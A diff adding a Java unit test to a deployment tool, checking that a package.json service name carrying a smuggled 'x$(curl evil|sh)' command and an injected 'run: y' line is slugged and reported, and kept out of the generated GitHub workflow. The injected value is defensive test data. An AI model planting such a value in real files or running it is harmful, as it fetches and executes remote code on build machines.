@@ -215,6 +215,21 @@ class DeployStacksTest {
         assertEquals("web", maven.deployables().get(0).name());
     }
 
+    @Test
+    void aHostileServiceNameIsSluggedAndSaid() {
+        StepOutcome o = work(new FileInput("package.json", "{\"name\": \"x$(curl evil|sh)\\nrun: y\","
+                + " \"scripts\": {\"start\": \"node s.js\"}}"), new FileInput("package-lock.json", "{}"),
+                new FileInput("s.js", "app.listen(Number(process.env.PORT ?? 3000), '0.0.0.0')"));
+        allPassed(o);
+        assertTrue(o.findings().stream().anyMatch(f -> f.ruleId().equals("deploy.service-name")
+                && f.object().equals("package.json") && f.message().contains("x-curl-evil-sh-run-y")), o.findings().toString());
+        for (Artifact a : o.artifacts()) {
+            assertFalse(a.content().contains("$(curl") || a.content().contains("run: y"), a.name());
+        }
+        String workflow = DeployFixtures.content(o.artifacts(), ".github/workflows/deploy.yml");
+        assertTrue(workflow.contains("run: railway up --ci --service x-curl-evil-sh-run-y\n"), workflow);
+    }
+
     private static StepOutcome handedOff(String rule, String object, FileInput... files) {
         TaskEvent t = DeployFixtures.task(TaskKind.WORK, List.of(files), List.of());
         Diagnosis diagnosis = new Diagnosis(rule, null, object, null, "java.lang.OutOfMemoryError: Java heap space",
